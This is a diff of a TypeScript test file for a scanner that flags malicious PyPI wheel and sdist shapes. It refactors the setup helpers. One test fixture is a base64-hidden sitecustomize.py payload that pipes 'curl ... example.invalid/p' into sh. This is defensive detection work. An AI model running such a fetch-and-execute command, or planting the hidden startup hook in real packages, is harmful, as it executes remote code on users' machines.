@@ -1,20 +1,10 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { scanPythonDistribution, type ScanReport } from '../../helper/src/scan/index.js';
-import { tempDir } from './support.js';
-import { makeSdist, makeWheel } from './python-support.js';
+import { describe, expect, it } from 'vitest';
+import { findingSummary, scannedDistributions } from './python-support.js';
 
 // The shapes of published PyPI attacks (from public write-ups), rebuilt as inert code aimed at reserved names
 // (example.invalid, 192.0.2.x documentation addresses excepted where a public IP is the point).
-let work: { dir: string; cleanup(): Promise<void> };
-beforeAll(async () => {
-  work = await tempDir();
-});
-afterAll(() => work.cleanup());
-
-let n = 0;
-const wheel = async (files: Record<string, string>) => scanPythonDistribution(await makeWheel(work.dir, `w${n++}`, files), 'wheel');
-const sdist = async (files: Record<string, string>) => scanPythonDistribution(await makeSdist(work.dir, `s${n++}`, files), 'sdist');
-const summary = (r: ScanReport) => r.findings.map((f) => `${f.severity} ${f.rule} ${f.file}:${f.line ?? '-'}`);
+const { wheel, sdist } = scannedDistributions();
+const summary = findingSummary;
 const b64 = (s: string) => Buffer.from(s).toString('base64');
 
 describe('scan: PyPI attack shapes', () => {
@@ -101,7 +91,7 @@ describe('scan: PyPI attack shapes', () => {
 
   it('a sitecustomize.py under .data/purelib is named as what site.py imports, not as a .pth', async () => {
     const payload = "import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'curl -s https://example.invalid/p | sh'])";
-    const r = await wheel({ [`w${n}-1.0.data/purelib/sitecustomize.py`]: `import base64\nexec(base64.b64decode('${b64(payload)}'))\n` });
+    const r = await wheel({ ['site-1.0.data/purelib/sitecustomize.py']: `import base64\nexec(base64.b64decode('${b64(payload)}'))\n` }, 'site');
     expect(r.findings.length).toBeGreaterThan(0);
     for (const f of r.findings) expect(f.message).toContain('runs at every Python start (site.py imports sitecustomize)');
     expect(r.findings.map((f) => f.message).join('\n')).not.toContain('(.pth)');
